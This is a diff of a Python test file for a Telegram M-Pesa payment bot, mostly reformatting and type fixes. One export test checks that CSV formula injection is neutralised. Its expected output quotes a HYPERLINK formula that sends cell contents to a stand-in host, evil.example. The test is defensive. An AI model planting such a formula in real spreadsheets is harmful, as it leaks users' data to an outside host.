@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import logging
+from typing import Any
 
 import pytest
 from telegram.ext import CallbackContext
@@ -88,7 +89,10 @@ async def test_admins_get_the_admin_command_menu(settings, telegram, sandbox, cl
 
 async def test_a_payment_in_a_group(merchant_shop: Shop) -> None:
     shop, group = merchant_shop, -100555
-    cashier, bystander = shop.customer(STAFF, "Cashier", chat_id=group), shop.customer(OTHER, "Bystander", chat_id=group)
+    cashier, bystander = (
+        shop.customer(STAFF, "Cashier", chat_id=group),
+        shop.customer(OTHER, "Bystander", chat_id=group),
+    )
     await shop.send(cashier.text("/pay@pesabot"))
     ask = shop.last(group)
     assert "Which phone" in ask.text and ask.reply_keyboard == []  # no contact button in groups
@@ -224,13 +228,38 @@ async def test_export_is_a_csv_checked_row_by_row(merchant_shop: Shop) -> None:
     assert document.document is not None and document.document["filename"] == "orders-2025-11-24-to-2025-11-24.csv"
     assert document.text == "Orders 2025-11-24 to 2025-11-24: 2 rows (times in Africa/Nairobi, phones masked)."
     rows = list(csv.reader(io.StringIO(document.document["content"].decode("utf-8"))))
-    assert rows[0] == ["order_id", "created_at", "status", "network", "phone", "amount", "paid_amount", "receipt_code",
-                       "payer_name", "paid_at", "chat_id", "requested_by", "reason"]
+    assert rows[0] == [
+        "order_id",
+        "created_at",
+        "status",
+        "network",
+        "phone",
+        "amount",
+        "paid_amount",
+        "receipt_code",
+        "payer_name",
+        "paid_at",
+        "chat_id",
+        "requested_by",
+        "reason",
+    ]
     first, second = rows[1], rows[2]
     paid_order = await shop.order(paid)
-    assert first == [paid, "2025-11-24T19:00:00+03:00", "paid", "mpesa", "07** ***678", "1250", "1250",
-                     paid_order.receipt_code, paid_order.payer_name, "2025-11-24T19:00:03+03:00", str(CUSTOMER),
-                     f"Wanjiru ({CUSTOMER})", ""]
+    assert first == [
+        paid,
+        "2025-11-24T19:00:00+03:00",
+        "paid",
+        "mpesa",
+        "07** ***678",
+        "1250",
+        "1250",
+        paid_order.receipt_code,
+        paid_order.payer_name,
+        "2025-11-24T19:00:03+03:00",
+        str(CUSTOMER),
+        f"Wanjiru ({CUSTOMER})",
+        "",
+    ]
     assert second[:7] == [failed, "2025-11-24T19:00:05+03:00", "failed", "mpesa", "07** ***672", "80", ""]
     assert second[12] == "a wrong PIN was entered"
     await shop.send(shop.customer(ADMIN).text("/export 2025-11-25"))
@@ -267,10 +296,12 @@ async def test_export_neutralises_what_a_spreadsheet_would_run(
         shop.clock.advance(5)
         await shop.sweep()
     await shop.send(shop.customer(ADMIN).text("/export 2025-11-24"))
-    rows = list(csv.reader(io.StringIO(shop.last(ADMIN).document["content"].decode("utf-8"))))[1:]
+    document = shop.last(ADMIN).document
+    assert document is not None
+    rows = list(csv.reader(io.StringIO(document["content"].decode("utf-8"))))[1:]
     assert [row[2] for row in rows] == ["paid"] * 4
     assert [row[11] for row in rows] == [
-        f"'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Receipt\") ({CUSTOMER})",
+        f'\'=HYPERLINK("http://evil.example/?leak="&A1,"Receipt") ({CUSTOMER})',
         f"'+254 call me ({OTHER})",
         "'\tTabbed (503)",
         "'\rReturned (504)",
@@ -280,8 +311,9 @@ async def test_export_neutralises_what_a_spreadsheet_would_run(
 
 async def test_daily_summary_goes_to_the_merchant_and_skips_empty_days(merchant_shop: Shop) -> None:
     shop = merchant_shop
-    job = shop.app.job_queue.get_jobs_by_name("daily-summary")[0]
-    assert job.trigger.fields[5].expressions[0].first == 21  # hour
+    assert shop.app.job_queue is not None
+    trigger: Any = shop.app.job_queue.get_jobs_by_name("daily-summary")[0].trigger  # APScheduler's CronTrigger, untyped
+    assert trigger.fields[5].expressions[0].first == 21  # hour
     context = CallbackContext(shop.app)
     await daily_summary_job(context)
     await shop.settle()
@@ -322,7 +354,15 @@ async def test_admin_reports_asked_in_a_group_go_to_the_admins_private_chat(merc
     assert export.document is not None and private in export.document["content"].decode()
     paid = await shop.order(private)
     group_sees = _group_texts(shop)
-    for secret in (private, readable(private), paid.receipt_code, paid.payer_name, paid.masked_phone, str(CUSTOMER), "Received in all"):
+    for secret in (
+        private,
+        readable(private),
+        paid.receipt_code,
+        paid.payer_name,
+        paid.masked_phone,
+        str(CUSTOMER),
+        "Received in all",
+    ):
         assert secret and secret not in group_sees
     assert not [p for m, p in shop.telegram.calls if m == "sendDocument" and str(p["chat_id"]) == str(GROUP)]
 
@@ -341,8 +381,9 @@ async def test_summary_in_the_merchant_chat_is_answered_there(merchant_shop: Sho
     assert shop.telegram.bot_messages(ADMIN) == []
 
 
-@pytest.mark.parametrize(("command", "method"), [("/orders", "sendMessage"), ("/export", "sendDocument"),
-                                                 ("/summary", "sendMessage")])
+@pytest.mark.parametrize(
+    ("command", "method"), [("/orders", "sendMessage"), ("/export", "sendDocument"), ("/summary", "sendMessage")]
+)
 async def test_an_admin_without_a_private_chat_is_told_in_one_line_and_the_group_sees_nothing(
     merchant_shop: Shop, caplog: pytest.LogCaptureFixture, command: str, method: str
 ) -> None:
